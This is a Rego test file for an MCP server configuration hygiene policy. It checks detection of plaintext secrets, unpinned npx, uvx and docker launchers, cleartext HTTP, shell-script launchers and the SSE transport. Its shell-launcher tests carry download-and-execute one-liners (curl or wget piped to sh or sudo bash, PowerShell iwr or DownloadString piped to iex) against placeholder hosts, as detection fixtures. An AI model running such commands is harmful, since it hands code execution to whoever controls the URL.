package mcpguard.hygiene_test

import data.mcpguard.hygiene

# Fixtures in the shape of scanner/policy.go's serverInput. facts.program is
# what the scanner derives: the lower-cased base name, looking through cmd /c.

base := {
	"name": "srv", "client": "claude-code", "scope": "user", "project": "", "transport": "stdio", "type": "stdio",
	"command": "", "args": [], "url": "", "env_keys": [], "header_keys": [], "status": "active", "enforced": true,
	"source": {"path": "/home/dev/.claude.json", "pointer": "/mcpServers/srv", "line": 3, "column": 5},
	"claude": {"label": "user", "argv": [""], "argv_keys": ["[\"\"]"], "url": "", "urls": [""], "has_var": false, "builtin": false},
	"facts": {"secrets": [], "url": {"parsed": false}, "env_var_keys": [], "program": "", "program_args": []},
}

run(program, args) := object.union(base, {"command": program, "args": args, "facts": {"program": program, "program_args": args}})

remote(transport, url, facts_url) := object.union(base, {"transport": transport, "type": transport, "url": url, "facts": {"url": facts_url}})

findings(s) := fs if {
	fs := hygiene.findings with input as {"server": s, "context": {}}
}

of_rule(s, rule) := [f | some f in findings(s); f.rule == rule]

one(s, rule) := f if [f] := of_rule(s, rule)

none(s, rule) if count(of_rule(s, rule)) == 0

# packages(s) lists the packages C002 reports for s.
packages(s) := {f.evidence["package"] | some f in of_rule(s, "MCPG-C002")}

unpinned(program, args, pkg) if packages(run(program, args)) == {pkg}

pinned(program, args) if none(run(program, args), "MCPG-C002")

# ---------------------------------------------------------------- MCPG-C001

secret(field, key, index, kind) := object.union(base, {"facts": {"secrets": [{"field": field, "key": key, "index": index, "kind": kind}]}})

test_c001_env if {
	f := one(secret("env", "GITHUB_TOKEN", -1, "github-token"), "MCPG-C001")
	f.msg == "server \"srv\" has a plaintext github-token in env GITHUB_TOKEN; reference it instead (${VAR}, an env file, a secret store)"
	f.evidence == {"field": "env", "key": "GITHUB_TOKEN", "kind": "github-token"}
}

test_c001_header if {
	f := one(secret("headers", "Authorization", -1, "bearer-token"), "MCPG-C001")
	contains(f.msg, "plaintext bearer-token in header Authorization;")
}

test_c001_positional_argument if {
	f := one(secret("args", "", 1, "aws-access-key"), "MCPG-C001")
	contains(f.msg, "in argument 2;")
}

test_c001_flag_argument if {
	f := one(secret("args", "api-key", 2, "generic-api-key"), "MCPG-C001")
	contains(f.msg, "in argument 3 (api-key);")
	f.evidence.key == "api-key"
}

test_c001_url if {
	f := one(secret("url", "userinfo", -1, "url-credentials"), "MCPG-C001")
	contains(f.msg, "plaintext url-credentials in the URL;")
	f2 := one(secret("url", "token", -1, "generic-api-key"), "MCPG-C001")
	contains(f2.msg, "in the URL;")
}

test_c001_command if {
	f := one(secret("command", "", -1, "github-token"), "MCPG-C001")
	contains(f.msg, "plaintext github-token in the command;")
}

test_c001_one_per_secret if {
	s := object.union(base, {"facts": {"secrets": [
		{"field": "env", "key": "A", "index": -1, "kind": "k"},
		{"field": "env", "key": "B", "index": -1, "kind": "k"},
		{"field": "env", "key": "B", "index": -1, "kind": "k"},
	]}})
	count(of_rule(s, "MCPG-C001")) == 2
}

test_c001_none if {
	none(base, "MCPG-C001")
}

# ---------------------------------------------------------------- MCPG-C002

test_c002_npx_unscoped if {
	unpinned("npx", ["-y", "pkg"], "pkg")
	f := one(run("npx", ["-y", "pkg"]), "MCPG-C002")
	f.msg == "server \"srv\" runs pkg via npx without a pinned version: every start can fetch different code; pin an exact version (pkg@1.2.3)"
	f.evidence == {"launcher": "npx", "package": "pkg"}
}

test_c002_npx_scoped if {
	unpinned("npx", ["-y", "@modelcontextprotocol/server-memory"], "@modelcontextprotocol/server-memory")
	unpinned("npx", ["@upstash/context7-mcp"], "@upstash/context7-mcp")
}

test_c002_npx_latest_and_tags if {
	unpinned("npx", ["@playwright/mcp@latest"], "@playwright/mcp@latest")
	unpinned("npx", ["-y", "pkg@latest"], "pkg@latest")
	unpinned("npx", ["pkg@next"], "pkg@next")
}

test_c002_npx_ranges_float if {
	unpinned("npx", ["pkg@^1.2.3"], "pkg@^1.2.3")
	unpinned("npx", ["pkg@~1.2"], "pkg@~1.2")
	unpinned("npx", ["pkg@1"], "pkg@1")
	unpinned("npx", ["pkg@1.x"], "pkg@1.x")
	unpinned("npx", ["@s/pkg@>=1.0.0"], "@s/pkg@>=1.0.0")
}

test_c002_npx_pinned if {
	pinned("npx", ["-y", "pkg@1.2.3"])
	pinned("npx", ["-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "/home/dev/src"])
	pinned("npx", ["--yes", "@s/pkg@1.0.0-beta.2", "--port", "3000"])
	pinned("npx", ["pkg@v1.2.3"])
}

test_c002_npx_package_flag if {
	pinned("npx", ["-p", "@s/pkg@1.2.3", "tool"])
	unpinned("npx", ["-p", "@s/pkg", "tool"], "@s/pkg")
	unpinned("npx", ["--package", "pkg", "tool"], "pkg")
	pinned("npx", ["--package=pkg@2.0.0", "tool"])
	unpinned("npx", ["--package=pkg", "tool"], "pkg")
}

test_c002_npx_repeated_package_flags if {
	unpinned("npx", ["-p", "a@1.0.0", "-p", "b", "tool"], "b")
	packages(run("npx", ["-p", "a", "--package=b", "-p", "c@1.0.0", "tool"])) == {"a", "b"}
	count(of_rule(run("npx", ["-p", "a", "-p", "a", "tool"]), "MCPG-C002")) == 1
}

test_c002_npx_value_flags if {
	pinned("npx", ["--registry", "https://npm.acme.example", "pkg@1.2.3"])
	unpinned("npx", ["--registry", "https://npm.acme.example", "-y", "pkg"], "pkg")
}

test_c002_npx_without_package if {
	pinned("npx", [])
	pinned("npx", ["-y"])
	pinned("npx", ["-p"])
}

test_c002_bunx if {
	unpinned("bunx", ["pkg"], "pkg")
	pinned("bunx", ["pkg@1.2.3"])
	pinned("bunx", ["--package", "pkg@1.2.3", "tool"])
}

test_c002_pnpm_dlx if {
	unpinned("pnpm", ["dlx", "@s/pkg"], "@s/pkg")
	pinned("pnpm", ["dlx", "@s/pkg@3.0.0"])
	pinned("pnpm", ["--package=@s/pkg@3.0.0", "dlx", "x"]) # not a dlx invocation
	pinned("pnpm", ["install"])
	pinned("pnpm", [])
}

test_c002_yarn_dlx if {
	unpinned("yarn", ["dlx", "pkg"], "pkg")
	unpinned("yarn", ["dlx", "-p", "pkg", "tool"], "pkg")
	pinned("yarn", ["dlx", "pkg@1.2.3"])
	pinned("yarn", ["start"])
}

test_c002_npm_exec if {
	unpinned("npm", ["exec", "pkg"], "pkg")
	unpinned("npm", ["exec", "--", "pkg"], "pkg")
	unpinned("npm", ["x", "-y", "@s/pkg"], "@s/pkg")
	pinned("npm", ["exec", "--yes", "--package=@s/pkg@1.2.3", "--", "tool"])
	pinned("npm", ["x", "pkg@1.2.3"])
	pinned("npm", ["run", "start"])
	pinned("npm", ["start"])
}

test_c002_js_local_paths_never_flagged if {
	pinned("npx", ["./local-server"])
	pinned("npx", ["/opt/mcp/server"])
	pinned("npx", ["file:../server"])
	pinned("npx", ["~/src/server"])
	pinned("npx", ["C:\\mcp\\server"])
	pinned("npx", ["-p", "./tools", "tool"])
	pinned("npx", ["git+https://github.com/acme/server.git"])
	pinned("npx", ["c:/mcp/server"])
	pinned("npx", [".bin-server"])
}

test_c002_js_names_like_local_paths_are_packages if {
	unpinned("npx", ["gitlab-mcp"], "gitlab-mcp")
	unpinned("npx", ["github+mcp"], "github+mcp")
	unpinned("npx", ["fileserver"], "fileserver")
	unpinned("npx", ["cc:/x"], "cc:/x")
	unpinned("npx", ["pkg/./x"], "pkg/./x")
}

test_c002_uvx if {
	unpinned("uvx", ["mcp-server-git"], "mcp-server-git")
	f := one(run("uvx", ["mcp-server-git"]), "MCPG-C002")
	endswith(f.msg, "pin an exact version (pkg==1.2.3)")
	pinned("uvx", ["mcp-server-git==1.2.3"])
	pinned("uvx", ["mcp-server-git@1.2.3"])
	pinned("uvx", ["mcp-server-git[extra]==1.2.3"])
}

test_c002_uvx_floating if {
	unpinned("uvx", ["mcp-server-git@latest"], "mcp-server-git@latest")
	unpinned("uvx", ["mcp-server-git>=1.0"], "mcp-server-git>=1.0")
	unpinned("uvx", ["mcp-server-git~=1.0"], "mcp-server-git~=1.0")
	unpinned("uvx", ["mcp-server-git==1.*"], "mcp-server-git==1.*")
}

test_c002_uvx_from if {
	pinned("uvx", ["--from", "pkg==1.0", "tool"])
	unpinned("uvx", ["--from", "pkg", "tool"], "pkg")
	pinned("uvx", ["--from=pkg==1.0", "tool"])
	unpinned("uvx", ["--from=pkg", "tool"], "pkg")
	pinned("uvx", ["--from", "pkg@1.0.0", "tool"])
	pinned("uvx", ["--from", "pkg==1.0", "--from", "other", "tool"])
}

test_c002_uvx_value_flags if {
	pinned("uvx", ["--python", "3.12", "tool==1.0"])
	unpinned("uvx", ["--python", "3.12", "tool"], "tool")
	pinned("uvx", ["--with", "dep", "tool==1.0"])
	pinned("uvx", ["--index-url", "https://pypi.acme.example/simple", "tool==1.0"])
}

test_c002_uvx_local if {
	pinned("uvx", ["--from", ".", "tool"])
	pinned("uvx", ["--from", "/opt/src/tool", "tool"])
	pinned("uvx", ["--from", "git+https://github.com/acme/tool", "tool"])
}

test_c002_uv_tool_run if {
	unpinned("uv", ["tool", "run", "pkg"], "pkg")
	unpinned("uv", ["tool", "run", "--from", "pkg", "tool"], "pkg")
	pinned("uv", ["tool", "run", "pkg==2.0"])
	pinned("uv", ["run", "server.py"])
	pinned("uv", ["tool", "install", "pkg"])
}

test_c002_pipx_run if {
	unpinned("pipx", ["run", "pkg"], "pkg")
	pinned("pipx", ["run", "pkg==1.0"])
	pinned("pipx", ["run", "--spec", "pkg==1.0", "tool"])
	unpinned("pipx", ["run", "--spec", "pkg", "tool"], "pkg")
	pinned("pipx", ["install", "pkg"])
}

test_c002_docker if {
	unpinned("docker", ["run", "-i", "--rm", "mcp/postgres", "postgresql://app@db.internal:5432/acme"], "mcp/postgres")
	f := one(run("docker", ["run", "-i", "--rm", "mcp/postgres"]), "MCPG-C002")
	endswith(f.msg, "pin a digest (image@sha256:...) or a version tag")
	f.evidence == {"launcher": "docker", "package": "mcp/postgres"}
}

test_c002_docker_tags if {
	unpinned("docker", ["run", "img:latest"], "img:latest")
	pinned("docker", ["run", "img:1.2"])
	pinned("docker", ["run", "img@sha256:0123abcd"])
	pinned("docker", ["run", "img:latest@sha256:0123abcd"])
	unpinned("docker", ["run", "localhost:5000/img"], "localhost:5000/img")
	pinned("docker", ["run", "localhost:5000/img:2"])
}

test_c002_docker_value_flags if {
	pinned("docker", ["run", "-e", "KEY", "-v", "/a:/b", "--name", "x", "img:1.2"])
	unpinned("docker", ["run", "-e", "KEY", "-e", "OTHER", "mcp/x"], "mcp/x")
	unpinned("docker", ["run", "--env=K=v", "-i", "img"], "img")
	unpinned("docker", ["run", "--network", "host", "-p", "80:80", "img"], "img")
	pinned("docker", ["run", "--pull", "always", "img:3"])
}

test_c002_docker_other_forms if {
	unpinned("docker", ["container", "run", "img"], "img")
	unpinned("podman", ["run", "quay.io/acme/mcp:latest"], "quay.io/acme/mcp:latest")
	pinned("podman", ["run", "quay.io/acme/mcp:v1.0"])
	unpinned("nerdctl", ["run", "img"], "img")
	pinned("docker", ["ps"])
	pinned("docker", ["run"])
	pinned("docker", [])
}

test_c002_not_a_launcher if {
	pinned("node", ["pkg"])
	pinned("python", ["-m", "pkg"])
}

# ---------------------------------------------------------------- MCPG-C003

url_facts(scheme, host, loopback) := {"parsed": true, "scheme": scheme, "host": host, "port": "", "loopback": loopback}

test_c003_http_remote if {
	f := one(remote("http", "http://mcp.acme.example/mcp", url_facts("http", "mcp.acme.example", false)), "MCPG-C003")
	f.evidence == {"scheme": "http", "host": "mcp.acme.example"}
	f.msg == "server \"srv\" talks http:// to mcp.acme.example, which is not this machine: traffic and credentials cross the network in clear text"
}

test_c003_ws_remote if {
	f := one(remote("ws", "ws://10.0.0.5:9000/", url_facts("ws", "10.0.0.5", false)), "MCPG-C003")
	f.evidence.scheme == "ws"
}

test_c003_sse_over_http if {
	one(remote("sse", "http://mcp.acme.example/sse", url_facts("http", "mcp.acme.example", false)), "MCPG-C003")
}

test_c003_loopback if {
	none(remote("http", "http://localhost:3000/mcp", url_facts("http", "localhost", true)), "MCPG-C003")
	none(remote("ws", "ws://127.0.0.1:1/", url_facts("ws", "127.0.0.1", true)), "MCPG-C003")
	none(remote("http", "http://[::1]/", url_facts("http", "::1", true)), "MCPG-C003")
}

test_c003_tls_and_other_schemes if {
	none(remote("http", "https://mcp.acme.example/", url_facts("https", "mcp.acme.example", false)), "MCPG-C003")
	none(remote("ws", "wss://mcp.acme.example/", url_facts("wss", "mcp.acme.example", false)), "MCPG-C003")
	none(remote("http", "unix:///run/mcp.sock", url_facts("unix", "", false)), "MCPG-C003")
}

test_c003_unparsed if {
	none(remote("http", "http://%zz", {"parsed": false}), "MCPG-C003")
	none(base, "MCPG-C003")
}

# ---------------------------------------------------------------- MCPG-C004

c004(program, args) := one(run(program, args), "MCPG-C004")

test_c004_bash_c if {
	f := c004("bash", ["-c", "node server.js"])
	f.evidence == {"shell": "bash", "download_and_execute": false}
	f.msg == "server \"srv\" runs a shell script (bash): the command an allowlist sees is only the shell, and the script can do anything"
}

test_c004_flag_clusters if {
	c004("bash", ["-lc", "node server.js"]).evidence.shell == "bash"
	c004("sh", ["-ec", "exec node server.js"]).evidence.shell == "sh"
	c004("zsh", ["-o", "pipefail", "-c", "x"]).evidence.shell == "zsh"
	c004("fish", ["--command", "x"]).evidence.shell == "fish"
	c004("dash", ["-c"]).evidence.shell == "dash"
}

test_c004_download_and_execute if {
	f := c004("bash", ["-c", "curl -fsSL https://get.example.dev/mcp.sh | sh"])
	f.evidence == {"shell": "bash", "download_and_execute": true}
	f.msg == "server \"srv\" downloads code and executes it on every start: whoever controls that URL runs code on this machine"
	c004("sh", ["-c", "wget -qO- https://x.example/i | sudo bash"]).evidence.download_and_execute
	c004("bash", ["-c", "curl -s https://x.example/s.py | python3 -"]).evidence.download_and_execute
	c004("bash", ["-c", "bash <(curl -s https://x.example/i)"]).evidence.download_and_execute
	c004("sh", ["-c", "CURL https://x.example | SH"]).evidence.download_and_execute
}

test_c004_powershell if {
	f := c004("powershell", ["-NoProfile", "-Command", "iwr https://x.example/i.ps1 | iex"])
	f.evidence == {"shell": "powershell", "download_and_execute": true}
	c004("pwsh", ["-c", "irm https://x.example | iex"]).evidence.download_and_execute
	c004("powershell", ["-Command", "iex (New-Object Net.WebClient).DownloadString('https://x.example')"]).evidence.download_and_execute
	c004("powershell", ["-EncodedCommand", "SQBFAFgA"]).evidence == {"shell": "powershell", "download_and_execute": false}
	c004("pwsh", ["-e", "SQBFAFgA"]).evidence.shell == "pwsh"
	c004("pwsh", ["-NoLogo", "-Comm", "Start-Server"]).evidence.shell == "pwsh"
}

test_c004_cmd_with_options if {
	# cmd with options before /c is not looked through by the facts
	f := c004("cmd", ["/d", "/s", "/c", "curl https://x.example/i | sh"])
	f.evidence == {"shell": "cmd", "download_and_execute": true}
	c004("cmd", ["/d", "/C", "type x.js | node"]).evidence == {"shell": "cmd", "download_and_execute": false}
}

test_c004_cmd_wrapper if {
	# cmd /c "curl ... | sh": the facts look through cmd /c
	s := object.union(base, {"command": "C:\\Windows\\System32\\cmd.exe", "args": ["/c", "curl https://x.example/i | sh"], "facts": {"program": "curl https:", "program_args": []}})
	f := one(s, "MCPG-C004")
	f.evidence == {"shell": "cmd", "download_and_execute": true}
	s2 := object.union(base, {"command": "cmd", "args": ["/c", "npm run build && node srv.js"], "facts": {"program": "npm run build && node srv.js", "program_args": []}})
	one(s2, "MCPG-C004").evidence == {"shell": "cmd", "download_and_execute": false}
}

test_c004_cmd_wrapper_of_a_launcher_is_fine if {
	s := object.union(base, {"command": "cmd", "args": ["/c", "npx", "-y", "pkg@1.2.3"], "facts": {"program": "npx", "program_args": ["-y", "pkg@1.2.3"]}})
	none(s, "MCPG-C004")
	none(run("cmd", ["/d", "/c", "npx", "-y", "pkg@1.2.3"]), "MCPG-C004")
}

test_c004_one_string_pipeline if {
	s := object.union(base, {"command": "curl -fsSL https://x.example/i.sh | sh", "args": [], "facts": {"program": "i.sh | sh", "program_args": []}})
	f := one(s, "MCPG-C004")
	f.evidence == {"shell": "", "download_and_execute": true}
	s2 := object.union(base, {"command": "cat srv.js | node", "args": [], "facts": {"program": "cat srv.js | node", "program_args": []}})
	f2 := one(s2, "MCPG-C004")
	f2.evidence == {"shell": "", "download_and_execute": false}
	f2.msg == "server \"srv\" runs a shell pipeline written as one command string: the command an allowlist sees is not what runs"
}

test_c004_pipe_in_an_argument_is_not_a_one_string_pipeline if {
	none(run("grep", ["a|b", "file"]), "MCPG-C004")
}

test_c004_script_shells_are_the_shells_script_flag_knows if {
	hygiene.script_shells == hygiene.posix_shells | {"powershell", "pwsh"}
}

test_c004_not_a_plain_server if {
	none(run("node", ["server.js"]), "MCPG-C004")
	none(run("python", ["-c", "import srv; srv.main()"]), "MCPG-C004")
	none(run("bash", ["start.sh"]), "MCPG-C004")
	none(run("bash", ["-e", "start.sh"]), "MCPG-C004")
	none(run("npx", ["-y", "pkg@1.2.3"]), "MCPG-C004")
}

test_c004_not_for_remote if {
	s := object.union(remote("http", "https://x.example/", url_facts("https", "x.example", false)), {"command": "curl x | sh"})
	none(s, "MCPG-C004")
}

test_c004_no_conflict_on_inconsistent_facts if {
	# a shell flag in the facts and a one-string pipeline at once: one finding
	s := object.union(base, {"command": "bash|x", "args": [], "facts": {"program": "bash", "program_args": ["-c", "a", "-c", "b"]}})
	f := one(s, "MCPG-C004")
	f.evidence.shell == "bash"
}

# ---------------------------------------------------------------- MCPG-C005

test_c005_sse if {
	f := one(remote("sse", "https://x.example/sse", url_facts("https", "x.example", false)), "MCPG-C005")
	f.evidence == {"transport": "sse"}
	f.msg == "server \"srv\" uses the deprecated SSE transport; move to streamable HTTP (\"type\": \"http\") when the server supports it"
}

test_c005_not_http_or_stdio if {
	none(remote("http", "https://x.example/", url_facts("https", "x.example", false)), "MCPG-C005")
	none(remote("ws", "wss://x.example/", url_facts("wss", "x.example", false)), "MCPG-C005")
	none(base, "MCPG-C005")
}
